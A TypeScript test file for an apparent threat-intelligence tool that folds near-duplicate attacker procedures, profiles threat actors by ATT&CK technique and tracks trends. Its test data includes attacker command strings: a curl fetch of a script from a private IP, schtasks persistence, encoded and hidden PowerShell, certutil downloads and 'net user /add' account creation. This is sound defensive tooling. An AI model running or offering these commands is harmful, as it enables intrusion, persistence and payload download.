import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { duplicateGroups } from '@/utils/analysis/duplicates';
import { foldNearDuplicates } from '@/utils/analysis/near-duplicates';
import { formHash, normalForm } from '@/utils/analysis/normal-form';
import { profileOf } from '@/utils/analysis/profile';
import { complete } from '@/utils/analysis/steps';
import { trendsSteps } from '@/utils/analysis/trends';
import { MAX_NOTE } from '@/utils/observation/limits';
import { shuffled } from '../exchange/arbitraries';
import { id, library, observation, record, technique } from './samples';

const TASK = (name: string) => `schtasks /create /tn "${name}" /tr C:\\ProgramData\\a${name}.exe /sc daily`;

describe('near-duplicates', () => {
  it.each([
    ['parameters', ['curl http://10.0.0.1/a.sh', 'curl http://10.0.0.2/a.sh'], [[0, 1]]],
    ['a word of many', [TASK('Updater'), TASK('Sync')], [[0, 1]]],
    ['case and white space', ['WHOAMI  /all', 'whoami /all'], [[0, 1]]],
    ['other commands', ['whoami /all', 'net user /domain', 'whoami /all'], [[0, 2], [1]]],
    ['short ones of one word', ['whoami', 'hostname'], [[1], [0]]],
    ['no word at all', ['…', '???', '…'], [[0, 2], [1]]],
    ['nothing', [], []],
  ])('%s', (_what, texts, expected) => {
    expect(foldNearDuplicates(texts).map(({ members }) => members)).toEqual(expected);
  });

  it('ignores encoded data and numbers', () => {
    expect(normalForm(`powershell -enc ${'QUJD'.repeat(20)} 443 9f86d081`)).toBe('powershell enc # # #');
  });

  it('is the same in the ASCII fast path as by words', () => {
    // A letter that is not ASCII, as a word of its own at the end, leads past the walk.
    const text = fc.string({ unit: fc.constantFrom(...'abfgz059 ./-_é'), maxLength: 60 });
    fc.assert(
      fc.property(text, (given) => {
        fc.pre(/[a-z0-9]/.test(given.normalize('NFKD')));
        expect(normalForm(`${given} ж`)).toBe(`${normalForm(given)} ж`);
      }),
    );
  });

  it('has one hash for one form', () => {
    const text = fc.string({ unit: fc.constantFrom(...'aAbf059 ./_éＡß#'), maxLength: 12 });
    fc.assert(
      fc.property(fc.array(text, { minLength: 2, maxLength: 60 }), (texts) => {
        const hashes = new Map<string, number>();
        for (const one of texts) {
          const form = normalForm(one);
          expect(formHash(one)).toBe(hashes.get(form) ?? formHash(one));
          hashes.set(form, formHash(one));
        }
      }),
    );
    expect(formHash('Net  USER svc_1042 /add')).toBe(formHash('nét user svc 7 add'));
    expect(formHash('net user')).not.toBe(formHash('net users'));
  });

  it('folds do not depend on the order of the texts', () => {
    const text = fc.array(fc.constantFrom('net', 'user', 'add', 'del', '/x', '10'), { maxLength: 6 });
    const texts = fc.array(
      text.map((words) => words.join(' ')),
      { maxLength: 30 },
    );
    fc.assert(
      fc.property(
        texts.chain((list) => fc.tuple(fc.constant(list), shuffled(list))),
        ([list, mixed]) => {
          const folds = foldNearDuplicates(list);
          expect(folds.flatMap(({ members }) => members).sort((a, b) => a - b)).toEqual(
            list.map((_, n) => n),
          );
          const groups = (of: string[]) =>
            foldNearDuplicates(of).map(({ text: shown, members }) => [
              shown,
              members.map((n) => of[n]).sort(),
            ]);
          expect(groups(mixed)).toEqual(groups(list));
          const foldOf = new Map(folds.flatMap(({ members }, fold) => members.map((n) => [n, fold])));
          for (const [a, one] of list.entries())
            for (const [b, other] of list.entries())
              if (normalForm(one) === normalForm(other)) expect(foldOf.get(a)).toBe(foldOf.get(b));
        },
      ),
    );
  });
});

describe('a profile', () => {
  const own = { technique: technique(null, 'Own trick') };
  const all = library(
    [
      observation(1, {
        of: 2,
        by: ['Loud Heron'],
        procedure: TASK('One'),
        technique: technique('T1053.005'),
      }),
      observation(2, { of: 4, by: ['TTP 0815'], procedure: TASK('Two'), technique: technique('T1053.005') }),
      observation(3, {
        of: 4,
        by: ['Loud Heron'],
        procedure: 'certutil -urlcache',
        technique: technique('T1105'),
      }),
      observation(4, {
        of: 5,
        by: ['Other'],
        procedure: 'certutil  -URLCACHE',
        technique: technique('T1105'),
      }),
      observation(5, { of: 4, by: ['Loud Heron'], procedure: null, ...own }),
      observation(6, { of: 6, by: ['Loud Heron'], procedure: 'a step', technique: null, level: 'procedure' }),
      observation(7, {
        of: 2,
        by: ['Loud Heron'],
        procedure: null,
        technique: technique('T1086', 'PowerShell'),
      }),
      observation(8, { of: 9, by: [] }),
    ],
    [record(1, { name: 'Loud Heron', aliases: ['TTP 0815'] })],
  );
  const profile = profileOf(all, all.actors.of({ name: 'Loud Heron', attackId: null }));

  it('collects the observations of all names of an actor', () => {
    expect(profile).toMatchObject({ first: '2026-02-10', last: '2026-06-10' });
    expect(profile.observations.map((one) => one.id)).toEqual([1, 2, 3, 5, 6, 7].map(id));
    expect(profile.reports.map(({ report, observations }) => [report.title, observations])).toEqual([
      ['Report 6', 1],
      ['Report 4', 3],
      ['Report 2', 2],
    ]);
    expect(profile.timeline.map(({ month, reports }) => `${month} ${reports}`)).toEqual([
      '2026-02 1',
      '2026-03 0',
      '2026-04 1',
      '2026-05 0',
      '2026-06 1',
    ]);
  });

  it('counts techniques by reports, former ids as current ones, and folds procedures', () => {
    expect(profile.techniques.map((use) => [use.technique.key, use.reports])).toEqual([
      ['T1053.005', 2],
      ['T1059.001', 1],
      ['T1105', 1],
      ['name:own trick', 1],
    ]);
    expect(profile.techniques[0]?.procedures).toMatchObject([{ variants: 2, reports: 2, alsoBy: [] }]);
    expect(profile.techniques[2]?.procedures).toMatchObject([{ alsoBy: ['name:other'] }]);
    expect(profile.otherProcedures).toMatchObject([{ text: 'a step' }]);
  });

  it('calls distinctive what few others use', () => {
    expect(profile.distinctive.techniques.map((use) => use.technique.key)).toEqual(['name:own trick']);
    expect(profile.distinctive.procedures.map(({ text }) => text)).toEqual([TASK('One'), 'a step']);
  });

  it('calls no procedure distinctive that a tenth of the others use', () => {
    const others = (count: number) => Array.from({ length: count }, (_, n) => `Actor ${n}`);
    const distinctiveAmong = (users: number) => {
      const does = (n: number, by: string[], procedure: string) => observation(n, { by, procedure });
      const records = [
        does(1, ['Loud Heron'], 'net user svc /add'),
        ...others(20).map((by, n) => does(n + 2, [by], n < users ? 'NET user svc /add' : 'whoami')),
      ];
      const shared = library(records);
      const found = profileOf(shared, shared.actors.of({ name: 'Loud Heron', attackId: null }));
      return found.distinctive.procedures.map(({ text, alsoBy }) => `${text}: ${alsoBy.length}`);
    };
    expect([0, 1, 2, 10].map(distinctiveAmong)).toEqual([
      ['net user svc /add: 0'],
      ['net user svc /add: 1'],
      [],
      [],
    ]);
  });

  it('of nobody is empty', () => {
    const empty = profileOf(all, all.actors.of({ name: 'Nobody', attackId: null }));
    expect(empty).toMatchObject({ first: null, last: null, techniques: [], timeline: [], reports: [] });
  });

  it('marks the techniques that ATT&CK lists for the group', () => {
    const known = library([
      observation(1, { by: ['APT29'], technique: technique('T1059.001') }),
      observation(2, { by: ['APT29'], technique: technique('T1495') }),
    ]);
    const { techniques } = profileOf(known, known.actors.of({ name: 'Cozy Bear', attackId: null }));
    expect(techniques.map((use) => [use.technique.key, use.known])).toEqual([
      ['T1059.001', true],
      ['T1495', false],
    ]);
  });
});

describe('trends', () => {
  const all = library([
    observation(1, { of: 1, by: ['A'], technique: technique('T1105'), procedure: 'certutil -urlcache -f x' }),
    observation(2, { of: 3, by: ['A'], technique: technique('T1105'), procedure: 'certutil -urlcache -f x' }),
    observation(3, { of: 3, by: ['A', 'B'], technique: technique('T1053.005'), procedure: 'at 12:00 cmd' }),
    observation(4, { of: 2, by: ['B'], technique: technique('T1053.005'), procedure: 'at 12:00 cmd' }),
  ]);
  const trends = complete(trendsSteps(all, all.observations, '2026-02'));

  it('by month, across actors, new, and of one actor', () => {
    expect(trends.months).toEqual(['2026-01', '2026-02', '2026-03']);
    expect(trends.techniques.map((one) => [one.technique.key, one.reportsByMonth])).toEqual([
      ['T1053.005', [0, 1, 1]],
      ['T1105', [1, 0, 1]],
    ]);
    expect(trends.acrossActors.map((one) => one.technique.key)).toEqual(['T1053.005']);
    expect(trends.newThisMonth.map((one) => one.technique.key)).toEqual(['T1053.005']);
    expect(trends.ofOneActor).toMatchObject([
      { text: 'certutil -urlcache -f x', actor: { name: 'A' }, reports: 2 },
    ]);
    expect(complete(trendsSteps(all, [], '2026-02'))).toMatchObject({
      months: [],
      techniques: [],
      ofOneActor: [],
    });
  });
});

describe('duplicates', () => {
  it('are of one report, level and technique, and say the same', () => {
    const all = library([
      observation(2, { created: '2026-03-02T00:00:00.000Z' }),
      observation(1, { procedure: 'POWERSHELL -nop\n-w hidden' }),
      observation(3, { of: 2 }),
      observation(4, { technique: technique('T1105') }),
      observation(5, { procedure: 'powershell -nop -w hidden 2' }),
      observation(6, { level: 'technique' }),
    ]);
    expect(duplicateGroups(all, all.observations)).toEqual([
      { keep: { id: id(1), revision: 1 }, others: [{ id: id(2), revision: 1 }] },
    ]);
  });

  it('are not those that together would be too large for one', () => {
    const all = library([
      observation(1, { note: 'x' }),
      observation(2, { note: 'y'.repeat(MAX_NOTE) }),
      observation(3, { note: 'z' }),
    ]);
    expect(duplicateGroups(all, all.observations)).toEqual([
      { keep: { id: id(1), revision: 1 }, others: [{ id: id(3), revision: 1 }] },
    ]);
  });
});
